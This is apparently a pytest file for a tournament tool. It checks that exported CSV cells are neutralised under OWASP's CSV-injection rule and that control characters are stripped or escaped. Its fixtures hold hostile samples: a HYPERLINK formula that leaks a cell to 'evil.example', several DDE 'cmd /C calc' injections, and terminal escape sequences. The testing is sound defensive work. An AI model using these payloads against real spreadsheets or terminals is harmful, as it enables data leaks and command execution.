"""Text from an import reaching a spreadsheet or a terminal (issue 9, items 7 and 15).

A name is whatever the tab room (or a participant registering) typed. In a CSV we write it must
not run as a formula (OWASP's CSV-injection rule); imported, it loses its control characters; and
whatever still holds one prints as a visible escape on a terminal.
"""

from __future__ import annotations

import csv
import io
import os
import pty
import select
import shutil
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest

from tabmail.cli.main import main
from tabmail.domain.text import clean_name, csv_cell, terminal_safe
from tabmail.resources import resource
from tabmail.services.context import AppContext
from tabmail.services.importing import import_csv
from tests.conftest import REPO

BOTH_ENGINES = True  # every db/ctx test here also runs on PostgreSQL (tests/conftest.py)

EVIL = {
    "Björn Carvalho": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "Hamid Schulz": "+cmd|' /C calc'!A0",
    "Kofi Mbeki": "@SUM(1+1)*cmd|' /C calc'!A0",
    "Mirela Bianchi": "-2+3+cmd|' /C calc'!A0",
}


def _demo_copy(folder: Path, rename: dict[str, str]) -> Path:
    """The demo CSV folder with some people renamed (in every file that names them)."""
    shutil.copytree(resource("demo"), folder)
    for path in folder.glob("*.csv"):
        with path.open(encoding="utf-8", newline="") as fh:
            rows = list(csv.reader(fh))
        rows = [[rename.get(cell, cell) for cell in row] for row in rows]
        with path.open("w", encoding="utf-8", newline="") as fh:
            csv.writer(fh).writerows(rows)
    return folder


def test_csv_cell_follows_owasp() -> None:
    for formula in ("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"):
        assert csv_cell(formula) == "'" + formula
    for text in ("Aron Dang", "", "a=b", " =1", "'=1"):
        assert csv_cell(text) == text
    assert csv_cell(-3) == -3 and csv_cell(None) is None  # numbers we write are numbers


def test_export_csv_neutralises_formulas_and_is_owner_only(
    ctx: AppContext, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = _demo_copy(tmp_path / "evil", EVIL)
    import_csv(ctx, folder, "Evil Open")
    db = ctx.db.url  # the SQLite file's or the PostgreSQL database's URL
    ctx.close()
    assert (
        main(
            ["--db", db, "send", "draw", "--tournament", "evil-open", "--round", "1", "--queue-only", "--yes"]
        )
        == 0
    )
    os.umask(0o022)  # what a director's shell usually has
    out = tmp_path / "export.csv"
    assert (
        main(["--db", db, "export", "--tournament", "evil-open", "--format", "csv", "--output", str(out)])
        == 0
    )
    assert stat.S_IMODE(out.stat().st_mode) == 0o600

    with out.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    names = {row["recipient"] for row in rows}
    for evil in EVIL.values():
        assert "'" + evil in names  # the whole name kept, as text
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value

    # An existing, looser file is tightened; standard output gets the same neutralised cells.
    out.chmod(0o644)
    assert main(["--db", db, "export", "--tournament", "evil-open", "--output", str(out)]) == 0
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    capsys.readouterr()
    assert main(["--db", db, "export", "--tournament", "evil-open"]) == 0
    printed = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert {row["recipient"] for row in printed} == names


def test_export_json_file_is_owner_only(ctx: AppContext, tmp_path: Path) -> None:
    import_csv(ctx, resource("demo"), "Demo Open")
    db = ctx.db.url  # the SQLite file's or the PostgreSQL database's URL
    ctx.close()
    out = tmp_path / "export.json"
    os.umask(0o022)
    assert (
        main(["--db", db, "export", "--tournament", "demo-open", "--format", "json", "--output", str(out)])
        == 0
    )
    assert stat.S_IMODE(out.stat().st_mode) == 0o600


# -- control characters -----------------------------------------------------------------------
NASTY = "Ada\x1b]0;pwned\x07\x1b[2J\x00 Lovelace\r\nFAKE LINE\x9b31m"


def test_clean_name_drops_control_characters_and_keeps_the_rest() -> None:
    assert clean_name(NASTY) == "Ada]0;pwned[2J Lovelace FAKE LINE31m"
    assert clean_name("  Zoë\tvan  der Berg 🦆 ") == "Zoë van der Berg 🦆"
    assert clean_name(None) == ""
    assert terminal_safe("a\x1b[2Jb\nc\x9b") == "a\\x1b[2Jb\nc\\x9b"


def test_csv_import_strips_control_characters_from_names(ctx: AppContext, tmp_path: Path) -> None:
    folder = _demo_copy(tmp_path / "ctl", {"Björn Carvalho": NASTY, "Hall A": "Hall\x1b[5m A"})
    result = import_csv(ctx, folder, "Ctl\x1b[31m Open")
    assert not [p for p in result.problems if "adjudicators" in str(p)]
    t = ctx.tournaments.get("ctl-31m-open")
    assert t.name == "Ctl[31m Open"
    names = {p.name for p in ctx.tournaments.people(t.id)}
    assert "Ada]0;pwned[2J Lovelace FAKE LINE31m" in names
    draw = ctx.tournaments.draw(t.id, 1)
    assert "Hall[5m A" in {v.name for v in draw.venues.values()}
    for name in names:
        assert name.isprintable(), repr(name)


def _run_on_terminal(args: list[str], timeout: float = 60) -> str:
    """Run ``tabmail ARGS`` with its standard output and error on a pseudo-terminal."""
    leader, follower = pty.openpty()
    proc = subprocess.Popen(
        [sys.executable, "-m", "tabmail", *args],
        stdin=subprocess.DEVNULL,
        stdout=follower,
        stderr=follower,
        cwd=REPO,
        env={k: v for k, v in os.environ.items() if k != "TABMAIL_DB"},
    )
    os.close(follower)
    chunks: list[bytes] = []
    deadline = time.monotonic() + timeout
    try:
        while time.monotonic() < deadline:
            ready, _, _ = select.select([leader], [], [], max(0.0, deadline - time.monotonic()))
            if not ready:
                continue
            try:
                chunk = os.read(leader, 65536)
            except OSError:  # EIO: the child closed the terminal
                break
            if not chunk:
                break
            chunks.append(chunk)
        proc.wait(timeout=max(1.0, deadline - time.monotonic()))
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
        os.close(leader)
    return b"".join(chunks).decode("utf-8", "replace")


def test_cli_escapes_control_characters_on_a_terminal(ctx: AppContext, tmp_path: Path) -> None:
    import_csv(ctx, resource("demo"), "Demo Open")
    t = ctx.tournaments.get("demo-open")
    person = ctx.tournaments.people(t.id)[0]
    # As an older tabmail stored it: straight into the database, past the import's cleaning.
    with ctx.db.session() as s:
        from tabmail.store.models import PersonRow

        row = s.get(PersonRow, person.id)
        assert row is not None
        row.name = "Eve\x1b]0;owned\x07\x1b[2J"
    db = ctx.db.url  # the SQLite file's or the PostgreSQL database's URL
    ctx.close()

    shown = _run_on_terminal(["--db", db, "people", "--tournament", "demo-open"])
    assert "Eve\\x1b]0;owned\\x07\\x1b[2J" in shown
    assert "\x1b" not in shown and "\x07" not in shown
